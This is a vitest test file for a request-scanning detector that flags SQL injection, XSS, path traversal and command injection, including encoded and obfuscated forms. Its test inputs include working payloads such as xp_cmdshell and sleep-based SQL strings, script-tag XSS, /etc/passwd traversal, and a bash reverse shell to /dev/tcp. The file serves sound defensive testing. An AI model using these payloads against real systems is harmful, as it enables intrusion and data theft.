import { describe, expect, it } from 'vitest';
import { scanRequest } from '../../../src/enrichment/request-scan/index.js';
import { detectCommandInjection, deobfuscateShell } from '../../../src/enrichment/request-scan/cmdi.js';
import { mayBeMalicious } from '../../../src/enrichment/request-scan/prefilter.js';
import { scanValue, SQLI, XSS, TRAVERSAL, CMDI } from '../../../src/enrichment/request-scan/scan-value.js';
import { detectSqlInjection } from '../../../src/enrichment/request-scan/sql.js';
import { tokenize, T_COMMENT, T_UNION, T_STATEMENT, T_NUM, T_BARE, T_BREAK } from '../../../src/enrichment/request-scan/sql-tokens.js';
import { detectTraversal } from '../../../src/enrichment/request-scan/traversal.js';
import { detectXss } from '../../../src/enrichment/request-scan/xss.js';

describe('scanRequest locations', () => {
  it('reports each class once per location, with the location named', () => {
    const findings = scanRequest({
      path: '/static/../../etc/passwd',
      query: 'a=%27%20or%201%3D1--&b=%27%20or%20%27x%27%3D%27x',
      userAgent: '<script>alert(1)</script>',
      metadata: { ticket: { notes: ['fine', '; cat /etc/passwd'] }, name: "O'Brien" },
    });
    expect(findings).toEqual(
      expect.arrayContaining([
        { class: 'path_traversal', location: 'path' },
        { class: 'sql_injection', location: 'query' },
        { class: 'xss', location: 'user_agent' },
        { class: 'command_injection', location: 'metadata.ticket.notes.1' },
      ]),
    );
    expect(findings.filter((f) => f.location === 'query' && f.class === 'sql_injection')).toHaveLength(1);
    expect(findings.some((f) => f.location === 'metadata.name')).toBe(false);
  });

  it('returns the same frozen empty list for clean requests', () => {
    const a = scanRequest({ path: '/api/v1/users/42', query: 'page=2', userAgent: 'curl/8.5.0', metadata: { plan: 'pro' } });
    expect(a).toEqual([]);
    expect(Object.isFrozen(a)).toBe(true);
  });

  it('scans query keys as well as values, and bare parameters', () => {
    expect(scanRequest({ query: '%3Csvg%20onload%3Dalert(1)%3E=1' })).toEqual([{ class: 'xss', location: 'query' }]);
    expect(scanRequest({ query: '?%3Bcat%20%2Fetc%2Fpasswd' })).toEqual([{ class: 'command_injection', location: 'query' }]);
  });

  it('scans SQL per path segment, so a payload in one segment is a value of its own', () => {
    expect(scanRequest({ path: '/items/1%20or%201%3D1/edit' })).toEqual([{ class: 'sql_injection', location: 'path' }]);
  });

  it('ignores non-string metadata and does not follow prototype properties', () => {
    const proto = { evil: "' or 1=1--" };
    const meta = Object.create(proto) as Record<string, unknown>;
    meta.count = 3;
    meta.ok = true;
    meta.nothing = null;
    expect(scanRequest({ metadata: meta })).toEqual([]);
  });
});

describe('prefilter', () => {
  it('skips plain values and keeps anything with attack syntax', () => {
    expect(mayBeMalicious('/api/v2/orders/9f1c2a7e-3b4d/items')).toBe(false);
    expect(mayBeMalicious('Gift wrap please')).toBe(false);
    expect(mayBeMalicious("O'Brien")).toBe(true);
    expect(mayBeMalicious('1 union select 1,2')).toBe(true);
    expect(mayBeMalicious('/etc/passwd')).toBe(true);
    expect(mayBeMalicious('javascript:alert')).toBe(true);
    expect(mayBeMalicious('..%2f')).toBe(true);
  });
});

describe('SQL tokenizer', () => {
  const kinds = (s: string): number[] => {
    const t = tokenize(s);
    return Array.from(t.kind.subarray(0, t.count));
  };
  it('treats closed block comments as whitespace and MySQL versioned comments as code', () => {
    expect(kinds('1/**/union/**/select')).toEqual([T_NUM, T_UNION, T_STATEMENT]);
    expect(kinds('/*!50000union*/ select')).toEqual([T_UNION, T_STATEMENT]);
  });
  it('keeps terminating comments and quotes as tokens', () => {
    expect(kinds("admin'--")).toEqual([T_BARE, T_BREAK, T_COMMENT]);
  });
  it('reads digit-led words as bare words', () => {
    expect(kinds('3pm 2fa 0x41 1e5')).toEqual([T_BARE, T_BARE, T_NUM, T_NUM]);
  });
});

describe('SQL injection rules', () => {
  const yes = [
    "' or 1=1--",
    "admin'--",
    '1 union select null,null',
    "1' and sleep(5)#",
    '1; drop table users',
    "'; exec xp_cmdshell 'dir'--",
    "' having 1=1--",
    '1 order by 5--',
    "'+sleep(5)+'",
    '0 or true',
    "') or ('a'='a",
    "'; waitfor delay '0:0:5'--",
    '(case when (1=1) then 1 else 2 end)',
  ];
  const no = [
    "o'brien",
    "d'artagnan's letters",
    'select one or two items',
    'please drop table bookings from the agenda',
    'select a from t1 union select a from t2',
    "the kids' union select committee",
    'i want 1 or 2 more',
    "rock 'n' roll",
    'await sleep(1000);',
    '#general or #support?',
    'order by phone or online',
    'steps: open; select "export"; click ok',
  ];
  for (const s of yes) it(`flags ${s}`, () => expect(detectSqlInjection(s)).toBe(true));
  for (const s of no) it(`passes ${s}`, () => expect(detectSqlInjection(s)).toBe(false));
});

describe('XSS rules', () => {
  const yes = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<a href="java\tscript:alert(1)">x</a>',
    '" onmouseover="alert(1)',
    "'-alert(1)-'",
    'data:text/html;base64,phnjcmlwdd4=',
    '<iframe srcdoc="x">',
    '</script><script>x()</script>',
  ];
  const no = [
    '<b>bold</b> and <i>italic</i>',
    'x < y and y > z',
    '<jane@example.com>',
    'javascript: the good parts',
    'please confirm (by friday)',
    'the <script> tag explained',
    'onclick handler not firing',
    '<a href="https://example.com">help</a>',
    'javascript:void(0)',
  ];
  for (const s of yes) it(`flags ${JSON.stringify(s)}`, () => expect(detectXss(s)).toBe(true));
  for (const s of no) it(`passes ${JSON.stringify(s)}`, () => expect(detectXss(s)).toBe(false));
});

describe('path traversal policy by location', () => {
  it('flags any parent segment in the path', () => {
    expect(detectTraversal('/a/../b', '/a/../b', 'path')).toBe(true);
  });
  it('needs two levels or encoding in a query value, and ignores .. inside full URLs', () => {
    expect(detectTraversal('../b', '../b', 'query')).toBe(false);
    expect(detectTraversal('../../b', '../../b', 'query')).toBe(true);
    expect(detectTraversal('../b', '%2e%2e/b', 'query')).toBe(true);
    expect(detectTraversal('https://x.example/a/../b', 'https%3A%2F%2Fx.example%2Fa%2F..%2Fb', 'query')).toBe(false);
  });
  it('flags a sensitive target reached by .. anywhere, but not a bare file name in metadata', () => {
    expect(detectTraversal('../../etc/passwd', '../../etc/passwd', 'other')).toBe(true);
    expect(detectTraversal('/etc/passwd modified by useradd', '/etc/passwd modified by useradd', 'other')).toBe(false);
    expect(detectTraversal('/etc/passwd', '/etc/passwd', 'query')).toBe(true);
  });
  it('allows relative imports in pasted code', () => {
    expect(detectTraversal("import x from '../../components/x'", "import x from '../../components/x'", 'other')).toBe(false);
  });
  it('treats backslashes, Unicode slashes and ..; as separators', () => {
    expect(detectTraversal('..\\..\\windows\\win.ini', '', 'other')).toBe(true);
    expect(detectTraversal('..\u2215..\u2215etc\u2215passwd', '', 'other')).toBe(true);
    expect(detectTraversal('/..;/..;/x', '', 'path')).toBe(true);
  });
});

describe('command injection', () => {
  it('removes quote and backslash obfuscation inside words only', () => {
    expect(deobfuscateShell('c\'a\'t /etc/pa"ss"wd')).toBe('cat /etc/passwd');
    expect(deobfuscateShell('w\\ho\\am\\i')).toBe('whoami');
    expect(deobfuscateShell("it's 'quoted'")).toBe("its 'quoted'");
  });
  const yes = [
    '; id',
    '|whoami',
    '$(sleep 5)',
    '`id`',
    'x;cat${ifs}/etc/passwd',
    ';{cat,/etc/passwd}',
    '127.0.0.1 | nslookup evil.example',
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    '; /usr/bin/id',
    ';"w"h"o"am"i"',
  ];
  const no = [
    'tom & jerry',
    'r&d budget',
    'cats; cat food',
    'plans: basic | pro | enterprise',
    'ping me when back; echo this to the team',
    'salt & pepper; oil & vinegar',
  ];
  for (const s of yes) it(`flags ${s}`, () => expect(detectCommandInjection(s, 'request')).toBe(true));
  for (const s of no) it(`passes ${s}`, () => expect(detectCommandInjection(s, 'text')).toBe(false));
  it('does not treat pasted && chains, newlines or markdown backticks in text as injection', () => {
    expect(detectCommandInjection('run `cd /srv/app && ls -la` and send me the output', 'text')).toBe(false);
    expect(detectCommandInjection('thanks\nls -la shows nothing', 'text')).toBe(false);
    expect(detectCommandInjection('thanks\nls -la', 'request')).toBe(true);
  });
});

describe('scanValue combines decoding and detectors', () => {
  it('finds payloads hidden by encodings', () => {
    expect(scanValue('%253Cscript%253Ealert(1)%253C%252Fscript%253E', 'query')).toBe(XSS);
    expect(scanValue('%EF%BC%87%20or%201%3D1--', 'query') & SQLI).toBe(SQLI);
    expect(scanValue('%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd', 'query')).toBe(TRAVERSAL);
    expect(scanValue('&#x3c;img src=x onerror=alert(1)&#x3e;', 'metadata')).toBe(XSS);
    expect(scanValue('127.0.0.1%0aid', 'query')).toBe(CMDI);
  });
});
